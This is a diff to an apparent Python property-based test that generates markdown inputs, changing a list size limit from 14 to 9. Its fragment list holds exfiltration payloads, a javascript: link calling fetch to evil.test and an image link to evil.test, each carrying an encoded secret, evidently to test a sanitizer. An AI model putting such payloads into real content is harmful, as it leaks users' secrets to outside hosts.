@@ -24,7 +24,7 @@ FRAGMENTS = (
     "[x](javascript:fetch('//evil.test/{S}'))", "![x](data:image/svg+xml;base64,AAAA)", "> " * 40 + "![x](https://evil.test/{S})",
 )  # fmt: skip
 QUOTED = SECRET.replace(" ", "%20")
-texts = st.lists(st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=14).map(
+texts = st.lists(st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=9).map(
     lambda parts: "".join(part + between for part, between in parts).replace("{S}", QUOTED)
 )
 
